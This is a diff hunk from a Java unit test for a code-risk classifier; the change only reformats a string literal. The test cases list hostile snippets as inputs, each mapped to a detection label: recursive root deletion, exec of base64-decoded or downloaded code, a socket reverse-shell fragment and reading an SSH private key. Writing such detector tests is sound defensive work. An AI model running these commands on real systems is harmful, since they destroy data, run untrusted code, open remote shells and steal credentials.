@@ -31,7 +31,8 @@ final class ProgramSignsTest {
                 "rm -rf / → code.deletes delete",
                 "unlink \"a\" → code.deletes",
                 "exec(__import__('base64').b64decode('x')) → code.decoded code.runs-commands",
-                "exec(urllib.request.urlopen('http://x').read()) → code.downloaded code.runs-commands",
+                "exec(urllib.request.urlopen('http://x').read()) → code.downloaded"
+                        + " code.runs-commands",
                 "s=socket.socket();os.dup2(s.fileno(),0) → code.remote-shell",
                 "open('/home/a/.ssh/id_rsa').read() → code.secrets",
                 "remove_unused(x); confirm('rmdir') → §§",
